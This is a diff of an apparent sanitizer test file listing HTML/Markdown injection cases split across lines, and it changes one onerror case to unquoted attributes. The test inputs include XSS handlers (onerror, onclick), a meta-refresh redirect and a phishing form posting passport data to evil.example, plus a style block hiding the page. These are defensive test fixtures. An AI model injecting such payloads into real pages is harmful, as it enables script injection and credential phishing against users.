@@ -99,7 +99,7 @@ CASES = [
     # 2. HTML split over lines
     Case("meta-refresh-over-lines", append('<meta\nhttp-equiv="refresh"\ncontent="0;url=https://evil.example/">'),
          HIV, "<meta>"),
-    Case("img-onerror-over-lines", append('<img\nsrc="x"\nonerror="alert(1)">', at=2), HIV, "event handler"),
+    Case("img-onerror-over-lines", append('<img\nsrc=x\nonerror=alert(1)>', at=2), HIV, "'onerror'"),
     Case("phishing-form", append('<form\naction="https://evil.example/">\n<input name="passport">\n</form>'), HIV, "<form>"),
     Case("style-element", append("<style\n>body{display:none}</style>"), HIV, "<style>"),
     Case("attr-list-handler", append("Click me\n{: onclick=alert(1) }", at=1), HIV, "onclick"),
